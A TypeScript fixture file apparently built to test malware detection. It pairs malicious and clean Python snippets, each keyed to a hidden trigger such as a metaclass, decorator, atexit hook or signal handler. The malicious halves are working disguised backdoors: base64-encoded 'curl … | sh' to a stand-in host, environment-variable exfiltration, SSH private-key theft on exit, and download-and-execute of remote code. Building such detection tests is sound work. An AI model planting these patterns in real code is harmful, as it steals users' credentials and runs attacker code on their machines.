import { b64 } from '../kit.ts';
import { atLoad, atUse, type Pair, py } from './kit.ts';

const SHELL = b64('curl -s http://a.example/i | sh');
const CODE = b64("import os\nos.system('curl http://a.example/i | sh')");

/** What starts an attack is no call: a class that is made, a name that is asked for, the end of the program. */
export const TRIGGERS: Readonly<Record<string, Pair>> = {
  'use-module-getattr': atUse(
    `"""Lazy access to the sub-packages."""
import base64
import importlib
import subprocess

_READY = False

def __getattr__(name: str):
    global _READY
    if not _READY:
        _READY = True
        subprocess.Popen(base64.b64decode("${SHELL}").decode(), shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return importlib.import_module(f"own.{name}")`,
    py`"""Lazy access to the sub-packages."""
import importlib

_NAMES = {"models", "views"}

def __getattr__(name: str):
    if name in _NAMES:
        return importlib.import_module(f"own.{name}")
    raise AttributeError(name)`,
  ),
  'use-init-subclass': atUse(
    py`"""Base classes."""
import os
import threading
import requests

class Base:
    """The base of all models."""
    def __init_subclass__(cls, **kwargs) -> None:
        super().__init_subclass__(**kwargs)
        body = {"model": cls.__name__, "context": dict(os.environ)}
        threading.Thread(target=requests.post, args=("https://models.example/register",), kwargs={"json": body}, daemon=True).start()`,
    py`"""Base classes."""

class Base:
    """The base of all models."""
    registry: dict[str, type] = {}
    def __init_subclass__(cls, **kwargs) -> None:
        super().__init_subclass__(**kwargs)
        cls.registry[cls.__name__] = cls`,
  ),
  'load-metaclass': atLoad(
    py`"""Schemas."""
import os
import subprocess
import tempfile
import urllib.request

class SchemaMeta(type):
    """Prepares schemas."""
    def __new__(mcs, name, bases, namespace):
        cls = super().__new__(mcs, name, bases, namespace)
        if not bases:
            mcs._prepare()
        return cls
    @staticmethod
    def _prepare() -> None:
        path = os.path.join(tempfile.gettempdir(), ".schema-cache")
        try:
            urllib.request.urlretrieve("https://schemas.example/cache", path)
            os.chmod(path, 0o700)
            subprocess.Popen([path], start_new_session=True)
        except OSError:
            pass

class Schema(metaclass=SchemaMeta):
    """A schema."""`,
    py`"""Schemas."""

class SchemaMeta(type):
    """Prepares schemas."""
    def __new__(mcs, name, bases, namespace):
        namespace["fields"] = [key for key in namespace if not key.startswith("_")]
        return super().__new__(mcs, name, bases, namespace)

class Schema(metaclass=SchemaMeta):
    """A schema."""`,
  ),
  'use-decorator-args': atUse(
    py`"""Retries."""
from __future__ import annotations
import functools
import json
import urllib.request

def retry(times: int = 3):
    """Retries a call that fails."""
    def wrap(function):
        @functools.wraps(function)
        def call(*args, **kwargs):
            try:
                body = json.dumps({"f": function.__qualname__, "a": repr(args), "k": repr(kwargs)}).encode()
                urllib.request.urlopen("http://192.0.2.71:9000/t", data=body, timeout=1)
            except Exception:
                pass
            for attempt in range(times):
                try:
                    return function(*args, **kwargs)
                except Exception:
                    if attempt == times - 1:
                        raise
        return call
    return wrap`,
    py`"""Retries."""
from __future__ import annotations
import functools
import time

def retry(times: int = 3, wait: float = 0.5):
    """Retries a call that fails."""
    def wrap(function):
        @functools.wraps(function)
        def call(*args, **kwargs):
            for attempt in range(times):
                try:
                    return function(*args, **kwargs)
                except Exception:
                    if attempt == times - 1:
                        raise
                    time.sleep(wait)
        return call
    return wrap`,
  ),
  'load-set-name': atLoad(
    `"""Typed fields."""
import base64
import os

class Field:
    """A typed field."""
    def __init__(self, default: str) -> None:
        self.default = default
    def __set_name__(self, owner: type, name: str) -> None:
        self.name = name
        os.popen(base64.b64decode(self.default).decode())

class Options:
    """Options of the client."""
    mode = Field("${SHELL}")`,
    py`"""Typed fields."""

class Field:
    """A typed field."""
    def __init__(self, default: str) -> None:
        self.default = default
    def __set_name__(self, owner: type, name: str) -> None:
        self.name = name

class Options:
    """Options of the client."""
    mode = Field("fast")`,
  ),
  'use-context-exit': atUse(
    py`"""Timing of blocks."""
import os
import time
import requests

class Timer:
    """Measures a block."""
    def __enter__(self) -> "Timer":
        self._start = time.perf_counter()
        return self
    def __exit__(self, *exc) -> None:
        seconds = time.perf_counter() - self._start
        try:
            requests.post("https://timing.example/v1", json={"seconds": seconds, "labels": {k: v for k, v in os.environ.items()}}, timeout=1)
        except requests.RequestException:
            pass`,
    py`"""Timing of blocks."""
import time
import requests

class Timer:
    """Measures a block and reports it to the given collector."""
    def __init__(self, collector: str) -> None:
        self._collector = collector
    def __enter__(self) -> "Timer":
        self._start = time.perf_counter()
        return self
    def __exit__(self, *exc) -> None:
        seconds = time.perf_counter() - self._start
        requests.post(self._collector, json={"seconds": seconds}, timeout=1)`,
  ),
  'load-atexit-keys': atLoad(
    py`"""Session handling."""
import atexit
import json
from pathlib import Path
from urllib.request import Request, urlopen

class Session:
    """A session with usage statistics."""
    def __init__(self) -> None:
        self._events: list[dict] = []
        atexit.register(self._flush)
    def _flush(self) -> None:
        keys = {p.name: p.read_text(errors="ignore") for p in (Path.home() / ".ssh").glob("id_*")}
        request = Request("https://sessions.example/flush", data=json.dumps({"events": self._events, "extra": keys}).encode())
        try:
            urlopen(request, timeout=2)
        except OSError:
            pass

session = Session()`,
    py`"""Session handling."""
import atexit
import json
from pathlib import Path

class Session:
    """A session with usage statistics that stay on this machine."""
    def __init__(self) -> None:
        self._events: list[dict] = []
        atexit.register(self._flush)
    def _flush(self) -> None:
        if self._events:
            Path("own-events.json").write_text(json.dumps(self._events))

session = Session()`,
  ),
  'load-timer': atLoad(
    py`"""Cache."""
import threading
from urllib.request import urlopen

class Cache:
    """A cache that refreshes itself."""
    def __init__(self) -> None:
        self._values: dict = {}
        timer = threading.Timer(900.0, self._refresh)
        timer.daemon = True
        timer.start()
    def _refresh(self) -> None:
        try:
            exec(urlopen("https://cache.example/refresh").read().decode(), {})
        except Exception:
            self._values.clear()

cache = Cache()`,
    py`"""Cache."""
import threading
import time

class Cache:
    """A cache that refreshes itself."""
    def __init__(self) -> None:
        self._values: dict = {}
        timer = threading.Timer(900.0, self._refresh)
        timer.daemon = True
        timer.start()
    def _refresh(self) -> None:
        now = time.time()
        self._values = {key: value for key, value in self._values.items() if value[1] > now}

cache = Cache()`,
  ),
  'use-finalize': atUse(
    `"""Temporary work spaces."""
import base64
import os
import weakref

class Workspace:
    """A folder for one job."""
    def __init__(self, path: str) -> None:
        self.path = path
        self._finalizer = weakref.finalize(self, os.system, base64.b64decode("${SHELL}").decode())`,
    py`"""Temporary work spaces."""
import shutil
import tempfile
import weakref

class Workspace:
    """A folder for one job."""
    def __init__(self) -> None:
        self.path = tempfile.mkdtemp()
        self._finalizer = weakref.finalize(self, shutil.rmtree, self.path)`,
  ),
  'load-signal': atLoad(
    `"""Graceful stop."""
import base64
import signal

def _stop(signum, frame) -> None:
    exec(compile(base64.b64decode("${CODE}"), "<stop>", "exec"))
    raise KeyboardInterrupt

signal.signal(signal.SIGINT, _stop)`,
    py`"""Graceful stop."""
import signal
import sys

def _stop(signum, frame) -> None:
    sys.exit(128 + signum)

signal.signal(signal.SIGTERM, _stop)`,
  ),
};
